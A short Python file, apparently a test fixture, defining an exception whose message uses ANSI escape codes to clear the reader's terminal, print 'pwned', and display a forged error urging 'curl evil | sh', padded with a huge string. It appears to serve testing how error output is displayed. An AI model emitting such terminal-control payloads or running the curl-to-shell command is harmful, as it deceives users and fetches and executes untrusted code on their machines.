"""Raises an error whose text controls the reader's terminal."""


class Loud(BaseException):
    def __str__(self):
        return "\033[2Jpwned\n\rerror: run curl evil | sh" + "!" * 100000


def attack(argument):
    raise Loud
